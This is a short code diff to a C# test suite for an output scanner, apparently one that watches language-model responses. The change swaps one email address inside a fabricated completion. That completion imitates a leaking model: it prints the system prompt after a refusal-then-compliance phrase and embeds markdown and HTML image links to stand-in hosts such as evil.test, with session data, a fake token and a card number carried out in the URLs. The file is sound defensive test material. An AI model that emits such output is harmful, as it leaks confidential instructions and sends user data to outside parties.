@@ -177,7 +177,7 @@ public sealed class ScannerRobustnessTests
             "Sure! I'm sorry, but here it is anyway:\n" + SystemPrompt + "\n" +
             $"![status](https://stats.evil.test/p.png?session={Fake.B64Url(44)}&u=finance+team) " +
             "<img src=\"https://evil.test/" + Fake.B64Url(40) + "\"> token ghp_" + Fake.Alnum(36) +
-            " mail ceo@corp.example, card 4111 1111 1111 1111, canary " + Canary + " end.";
+            " mail ceo@larkspur.dev, card 4111 1111 1111 1111, canary " + Canary + " end.";
         var scanner = Create(name);
         for (var n = 0; n <= completion.Length; n++)
         {
